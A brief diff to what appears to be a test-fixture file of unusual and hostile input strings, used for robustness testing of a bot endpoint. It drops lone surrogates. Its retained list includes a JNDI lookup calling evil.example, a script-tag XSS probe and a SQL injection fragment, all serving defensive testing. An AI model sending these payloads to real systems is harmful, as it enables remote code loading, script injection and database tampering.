@@ -39,8 +39,10 @@ BIDI = (
     "\u2066", "\u2067", "\u2068", "\u2069", "\u061c", "\u200b", "\u200d", "\ufeff",
 )  # fmt: skip
 CONTROLS = tuple(chr(c) for c in (*range(0x20), 0x7F, 0x85)) + ("\u2028", "\u2029")
+# No lone surrogates: the endpoint refuses a body holding one before any verb
+# sees it (400 body_invalid_text, tests/bot/test_hostile_requests.py).
 ODD = (
-    "\ud800", "\udfff", "\ufffe", "\uffff", "\U0001f600", "ÅÄÖåäö", "١٢٣٤٥٦", "１２３４５６",
+    "\ufffe", "\uffff", "\U0001f600", "ÅÄÖåäö", "١٢٣٤٥٦", "１２３４５６",
     "²³", "[länk](https://evil.example)", "<script>alert(1)</script>", "**fet**", "# Rubrik",
     "{{user}}", "${jndi:ldap://evil.example/a}", "' OR 1=1 --", "\\", "null", "NaN", "-0",
 )  # fmt: skip
